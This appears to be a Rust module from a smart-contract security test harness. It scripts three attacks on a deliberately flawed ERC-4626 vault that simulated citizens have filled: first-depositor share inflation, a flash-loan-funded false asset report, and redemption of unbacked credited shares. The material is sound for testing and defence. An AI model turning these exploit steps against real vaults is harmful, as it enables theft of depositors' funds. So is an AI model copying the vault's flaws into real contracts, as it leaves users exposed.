//! Attacks on vaults by ERC-4626.

use alloy_primitives::{Address, U256};
use alloy_sol_types::SolConstructor;

use super::amount::{part, whole};
use super::contracts::{ZooFlawedToken, ZooVault};
use super::entry::Scene;
use super::plan::{Act, Plan, Step};
use super::stage::{Probe, Send, Stage};
use super::town::{Town, live};

/// A vault that citizens have filled.
pub(super) struct Filled {
    pub(super) town: Town,
    pub(super) asset: Address,
    pub(super) vault: Address,
    pub(super) traffic: Vec<Send>,
}

impl Filled {
    /// Eight citizens with 10,000 each; its manager is the deployer.
    pub(super) fn new(stage: &mut Stage) -> Self {
        let town = Town::new(stage);
        let asset = town.token(stage, "ASSET");
        let vault = Self::deploy(stage, &town, asset);
        for index in 0..8 {
            let citizen = town.citizen(index);
            let deposit = ZooVault::depositCall { assets: whole(10_000), receiver: citizen };
            stage.call(citizen, vault, &deposit);
        }
        let by = |citizen: usize| town.citizen(citizen);
        let out = ZooVault::withdrawCall { assets: whole(10), receiver: by(1), owner: by(1) };
        let traffic = vec![
            Send::call(by(0), vault, &ZooVault::depositCall { assets: whole(25), receiver: by(0) }),
            Send::call(by(1), vault, &out),
            Send::call(by(2), vault, &ZooVault::redeemCall { shares: whole(5), receiver: by(2), owner: by(2) }),
        ];
        Self { town, asset, vault, traffic }
    }

    /// An empty vault for `asset`; everybody may deposit.
    pub(super) fn deploy(stage: &mut Stage, town: &Town, asset: Address) -> Address {
        let arguments = ZooVault::constructorCall { asset_: asset, manager_: town.deployer };
        let vault = stage.deploy(town.deployer, &ZooVault::BYTECODE, arguments.abi_encode());
        town.approve(stage, asset, vault);
        vault
    }

    fn redeem_all(&self, owner: Address) -> Act {
        let redeem = ZooVault::redeemCall { shares: U256::ZERO, receiver: owner, owner };
        Act::new(self.vault, &redeem).with_answer(0, self.vault, &ZooFlawedToken::balanceOfCall { account: owner })
    }
}

/// What a share of `vault` is worth: what falls in it everybody else has lost.
pub(super) fn share_price(vault: Address) -> Probe {
    Probe::view(vault, &ZooVault::convertToAssetsCall { shares: whole(1) })
}

/// The first depositor makes one share dear; the second gets none for his deposit.
pub(super) fn inflated_share(stage: &mut Stage) -> Scene {
    let filled = Filled::new(stage);
    let young = Filled::deploy(stage, &filled.town, filled.asset);
    let subject = filled.town.subject;
    let fund = ZooFlawedToken::transferCall { to: subject, amount: whole(30_000) };
    stage.call(filled.town.deployer, filled.asset, &fund);
    live(stage, &filled.traffic);
    let victim = filled.town.citizen(9);
    // What is still in the vault can be saved: it is lost when the first depositor takes it out.
    let losses = vec![Probe::token(victim, filled.asset), Probe::token(young, filled.asset)];
    let (modules, traffic) = (vec![filled.vault, young], filled.traffic.clone());
    Scene::new(&modules, move |role| {
        let first = ZooVault::depositCall { assets: U256::ONE, receiver: role.thief };
        let theirs = ZooVault::depositCall { assets: whole(15_000), receiver: victim };
        let back = ZooVault::redeemCall { shares: U256::ONE, receiver: role.thief, owner: role.thief };
        let approve = ZooFlawedToken::approveCall { spender: young, amount: U256::MAX };
        let donate = ZooFlawedToken::transferCall { to: young, amount: whole(20_000) };
        vec![
            Step::by(role.thief, filled.asset, &approve),
            Step::by(role.thief, young, &first),
            Step::by(role.thief, filled.asset, &donate),
            Step::Bystander(Send::call(victim, young, &theirs)),
            Step::by(role.thief, young, &back),
        ]
    })
    .losing(losses)
    .among(&traffic)
}

/// Anybody may say what the strategy holds; shares are sold at that price.
pub(super) fn false_report(stage: &mut Stage) -> Scene {
    let filled = Filled::new(stage);
    live(stage, &filled.traffic);
    let (vault, losses, traffic) =
        (filled.vault, vec![Probe::token(filled.vault, filled.asset)], filled.traffic.clone());
    Scene::new(&[vault], move |role| {
        let stake = part(whole(40_000), role.pieces);
        let report = |amount| Act::new(vault, &ZooVault::reportCall { amount });
        let answer = vec![
            Act::approve(filled.asset, filled.town.lender),
            Act::approve(filled.asset, vault),
            Act::new(vault, &ZooVault::depositCall { assets: stake, receiver: role.me }),
            report(whole(120_000)),
            filled.redeem_all(role.me),
            report(U256::ZERO),
        ];
        let acts = vec![
            Act::flash_loan(filled.town.lender, role.me, filled.asset, stake),
            Act::transfer_all(filled.asset, role.me, role.thief),
        ];
        vec![Step::Contract(Plan::new(acts).answering(answer))]
    })
    .losing(losses)
    .among(&traffic)
    .divisible()
}

/// Shares for assets that never came, redeemed for those of the others.
pub(super) fn unbacked_shares(stage: &mut Stage) -> Scene {
    let filled = Filled::new(stage);
    live(stage, &filled.traffic);
    let (vault, losses, traffic) =
        (filled.vault, vec![Probe::token(filled.vault, filled.asset)], filled.traffic.clone());
    Scene::new(&[vault], move |role| {
        let credit = ZooVault::creditCall { assets: part(whole(200_000), role.pieces) };
        let acts = vec![
            Act::new(vault, &credit),
            filled.redeem_all(role.me),
            Act::transfer_all(filled.asset, role.me, role.thief),
        ];
        vec![Step::Contract(Plan::new(acts))]
    })
    .losing(losses)
    .among(&traffic)
    .divisible()
}
